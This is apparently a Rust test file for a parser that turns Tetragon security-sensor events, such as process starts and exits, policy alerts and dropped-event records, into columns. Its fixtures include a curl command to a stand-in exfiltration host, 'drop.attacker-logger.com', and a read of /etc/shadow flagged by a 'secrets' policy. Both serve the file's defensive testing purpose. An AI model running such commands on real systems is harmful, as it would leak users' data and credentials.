//! Tests of the dialect `tetragon`: the columns of each kind of event.

use super::*;
use crate::dialect::testing::{Columns, decoded, events};

const WORKSPACE: &str = "f1bd4e9f-2222-49fc-961e-be4d1c2aa987";

fn check(record: &str, expected: &[(&str, Option<&str>)]) -> Columns {
    let event = events(&Tetragon, record).remove(0);
    crate::dialect::testing::check(&event, expected);
    event
}

#[test]
fn programs_start_and_end() {
    let exec = check(
        EXAMPLES[0],
        &[
            ("source", Some("tetragon")),
            ("family", Some("workspace")),
            ("kind", Some("process.exec")),
            ("trust", Some("host")),
            ("source_id", Some("exec/bWFyczoxMjM0NTY3ODkwMTIzOjQxMjM0")),
            ("time", Some("1791015321500000")),
            ("action", Some("exec")),
            ("target", Some("/usr/bin/curl")),
            ("workspace", Some(WORKSPACE)),
            ("workspace_name", Some("ledger-rewrite")),
            ("user", Some("mira")),
            ("user_id", Some("5b405053-7777-484a-9ad7-bcb64e7bfde6")),
            ("attribution", Some("direct")),
        ],
    );
    assert!(exec["command"].starts_with("/usr/bin/curl -H ") && exec["command"].contains("[REDACTED:"));
    assert!(exec["record"].contains("bWFyczoxMjM0NTY3MDAwMDAwOjQxMjMx"), "the parent's id is no secret");
    for content in ["/home/coder/ledger", "curl the drop", "drop.attacker-logger.com"] {
        assert!(exec["content"].contains(content) && !exec["record"].contains(content), "{content}");
    }
    check(
        EXAMPLES[1],
        &[
            ("kind", Some("process.exit")),
            ("source_id", Some("exit/bWFyczoxMjM0NTY3ODkwMTIzOjQxMjM0")),
            ("exit_code", Some("22")),
            ("outcome", Some("error")),
            ("duration_us", Some("400000")),
            ("workspace", Some(WORKSPACE)),
        ],
    );
    check(&EXAMPLES[1].replace("\"status\":22,", ""), &[("exit_code", Some("0")), ("outcome", Some("success"))]);
    check(
        &EXAMPLES[1].replace("\"status\":22,", "\"signal\":\"SIGKILL\","),
        &[("exit_code", Some("0")), ("outcome", Some("error"))],
    );
    let earlier = EXAMPLES[0].replace(
        "\"flags\":\"execve clone\",\"start_time\":\"2026-10-03T08:15:21.5",
        "\"flags\":\"procFS auid\",\"start_time\":\"2026-10-03T08:15:21.5",
    );
    check(&earlier, &[("source_id", Some("exec/bWFyczoxMjM0NTY3ODkwMTIzOjQxMjM0/2026-10-03T08:15:21.500000657Z"))]);
}

#[test]
fn policies_that_match_are_alerts() {
    let killed = check(
        EXAMPLES[2],
        &[
            ("kind", Some("sensor.alert")),
            ("rule", Some("no-drops")),
            ("action", Some("sigkill")),
            ("outcome", Some("blocked")),
            ("target", Some("203.0.113.9:443")),
            ("host", Some("203.0.113.9")),
            ("port", Some("443")),
            ("command", Some("/usr/bin/curl https://drop.attacker-logger.com")),
        ],
    );
    assert_eq!(killed["source_id"].len(), 32);
    check(
        EXAMPLES[3],
        &[
            ("rule", Some("secrets")),
            ("action", Some("post")),
            ("outcome", None),
            ("file", Some("/etc/shadow")),
            ("target", Some("/usr/bin/cat")),
        ],
    );
    let unnamed = EXAMPLES[3].replace(",\"policy_name\":\"secrets\"", "");
    check(&unnamed, &[("rule", Some("file_open"))]);
}

#[test]
fn what_was_dropped_is_a_loss_and_the_rest_is_skipped() {
    check(EXAMPLES[4], &[("kind", Some("loss")), ("action", Some("rate_limit_info")), ("amount", Some("340"))]);
    let throttle =
        r#"{"process_throttle":{"type":"THROTTLE_START","cgroup":"x"},"node_name":"n","time":"2026-10-03T08:15:24Z"}"#;
    check(throttle, &[("kind", Some("loss")), ("action", Some("process_throttle"))]);
    for line in [throttle.replace("START", "STOP"), r#"{"process_loader":{},"node_name":"n"}"#.to_owned()] {
        assert_eq!(decoded(&Tetragon, line.as_bytes()), Decoded::Skip(SKIP_SERVER_LINE), "{line}");
    }
    for (line, word) in [(r#"{"a":1}"#, "node_name"), (r#"{"process_exec":{}}"#, "exec_id"), ("x", "JSON")] {
        assert!(
            matches!(decoded(&Tetragon, line.as_bytes()), Decoded::Unparsed(reason) if reason.contains(word)),
            "{line}"
        );
    }
}
